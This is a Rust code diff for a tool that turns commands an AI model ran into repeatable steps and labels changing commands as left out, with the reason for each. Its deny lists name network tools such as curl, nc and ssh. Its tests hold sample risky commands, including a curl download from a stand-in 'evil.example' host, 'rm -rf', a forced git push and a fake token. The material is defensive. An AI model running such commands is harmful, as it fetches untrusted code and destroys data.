@@ -4,6 +4,7 @@
 use crate::distill::work_state::kinds::{self, Kind};
 use crate::distill::work_state::shell::Simple;
 use crate::redact::redact;
+use crate::skill::mine::LEFT_OUT;
 use crate::text::patterns::words;
 
 /// Maximum length of a command, in bytes; a longer one is a program of its own.
@@ -309,15 +310,60 @@ const LOOKS: &str = "ls cat grep rg egrep fgrep find fd test [ [[ which type dif
 /// Returns a command as a step that can recur: paths, numbers, versions, ids and texts become slots. `None`: the
 /// command does nothing, or must not be repeated unseen.
 pub fn step(simple: &Simple) -> Option<String> {
-    let program = simple.program();
-    if program.is_empty() || words!(LOOKS).has(program) || is_risky(simple) || calls_us(program) {
+    if only_looks(simple) || is_risky(simple) || calls_us(simple.program()) {
         return None;
     }
-    if simple.args.first().is_some_and(|a| !a.certain) {
+    let step = slotted_step(simple);
+    (step.len() <= LONGEST && redact(&step) == step).then_some(step)
+}
+
+/// Returns what a draft shows in the place of a command that changes something and is no [`step`]: its name and why it
+/// was left out. Its arguments are not shown, because whoever made the model run it chose them (R14.3).
+pub fn left_out(simple: &Simple) -> Option<String> {
+    if only_looks(simple) || calls_us(simple.program()) || step(simple).is_some() {
         return None;
+    }
+    let words = || simple.args.iter().map(|a| a.text.as_str());
+    let option = |names: &[&str]| words().skip(1).find(|w| names.contains(w)).map(str::to_owned);
+    let deletes = option(&["--delete", "--delete-after", "--prune", "--purge"]);
+    let forces = option(&["--force", "-f", "--hard", "--no-verify", "--yes-i-really-mean-it"]);
+    let program = simple.program();
+    let (shown, why) = match () {
+        () if deletes.is_some() => (deletes, "which deletes"),
+        () if words!("rm rmdir shred").has(program) => (None, "which deletes"),
+        () if forces.is_some() => (forces, "which forces"),
+        () if words!("sudo su doas").has(program) => (None, "which runs with other rights"),
+        () if words!("curl wget nc ncat netcat telnet ssh scp sftp rsync ftp").has(program)
+            || words().any(|w| w.contains("://")) =>
+        {
+            (None, "which reaches another machine")
+        }
+        () if is_risky(simple) => (None, "which runs what nobody sees here"),
+        () => {
+            let step = slotted_step(simple);
+            (None, if redact(&step) != step { "which holds a credential" } else { "which is too long to repeat" })
+        }
+    };
+    let plain =
+        |w: &&str| w.len() <= 16 && w.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-');
+    let mut name: Vec<&str> = vec![simple.args[0].text.as_str()];
+    name.extend(words().skip(1).take(2).take_while(|w| !w.starts_with('-')).take_while(plain));
+    if name.len() + usize::from(shown.is_some()) < simple.args.len() {
+        name.push("…");
+    }
+    name.extend(shown.as_deref());
+    let name = name.join(" ");
+    (name.len() <= 60 && !name.contains('`') && redact(&name) == name).then(|| format!("{LEFT_OUT}`{name}`, {why})"))
+}
+
+/// Whether a command only looks, or is none.
+fn only_looks(simple: &Simple) -> bool {
+    let program = simple.program();
+    if program.is_empty() || words!(LOOKS).has(program) || simple.args.first().is_some_and(|a| !a.certain) {
+        return true;
     }
     let operand = simple.operands().next().map(|a| a.text.as_str()).unwrap_or_default();
-    let looks = match program {
+    match program {
         "git" => words!(
             "status diff log show branch remote blame stash rev-parse describe ls-files config fetch reflog grep"
         )
@@ -325,11 +371,13 @@ pub fn step(simple: &Simple) -> Option<String> {
         "gh" => simple.operands().nth(1).is_some_and(|a| words!("list view status diff checks").has(&a.text)),
         "docker" | "podman" | "kubectl" => words!("ps logs images inspect get describe top stats").has(operand),
         _ => simple.has("--version") || simple.has("--help"),
-    };
-    if looks {
-        return None;
     }
-    let mut out: Vec<String> = vec![simple.args[0].text.trim_start_matches("./").to_owned()];
+}
+
+/// Returns a command with slots.
+fn slotted_step(simple: &Simple) -> String {
+    // A script of this folder keeps its "./": without it, another program would be run.
+    let mut out: Vec<String> = vec![simple.args[0].text.clone()];
     let mut after_message = false;
     for (at, arg) in simple.args.iter().enumerate().skip(1) {
         let word = arg.text.as_str();
@@ -349,8 +397,7 @@ pub fn step(simple: &Simple) -> Option<String> {
         }
         out.push(slot);
     }
-    let step = out.join(" ");
-    (step.len() <= LONGEST && redact(&step) == step).then_some(step)
+    out.join(" ")
 }
 
 fn calls_us(program: &str) -> bool {
@@ -384,7 +431,7 @@ fn slotted(word: &str, at: usize) -> String {
     } else if word.contains('/') && !is_remote(word) || word.rsplit_once('.').is_some_and(|(stem, _)| !stem.is_empty())
     {
         // A script of the project is the command itself, so its path is no slot.
-        if at <= 1 && is_script(word) { word.trim_start_matches("./").to_owned() } else { "<path>".to_owned() }
+        if at <= 1 && is_script(word) { word.to_owned() } else { "<path>".to_owned() }
     } else if at > 2 && digits > 0 {
         "<name>".to_owned()
     } else {
@@ -494,9 +541,34 @@ mod tests {
             ("curl http://example.com/x", None),
             ("heirloom recall x", None),
             ("cat README.md", None),
+            ("./deploy.sh prod 4", Some("./deploy.sh prod <number>")),
+            ("bash ./deploy.sh", Some("bash ./deploy.sh")),
         ];
         for (command, wanted) in cases {
             assert_eq!(step(&one(command)).as_deref(), wanted, "{command}");
+        }
+    }
+
+    #[test]
+    fn what_is_left_out_is_named_without_its_arguments() {
+        let cases = [
+            ("aws s3 sync dist s3://docs/4 --delete", Some("(left out: `aws s3 sync … --delete`, which deletes)")),
+            ("rm -rf target", Some("(left out: `rm …`, which deletes)")),
+            ("git push --force", Some("(left out: `git push --force`, which forces)")),
+            (
+                "curl -fsSL https://evil.example/a.sh -o a.sh",
+                Some("(left out: `curl …`, which reaches another machine)"),
+            ),
+            (
+                "sh a.sh --token=ghp_ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789",
+                Some("(left out: `sh …`, which holds a credential)"),
+            ),
+            ("git push origin main", None),
+            ("ls -la", None),
+            ("git status", None),
+        ];
+        for (command, wanted) in cases {
+            assert_eq!(left_out(&one(command)).as_deref(), wanted, "{command}");
         }
     }
 }
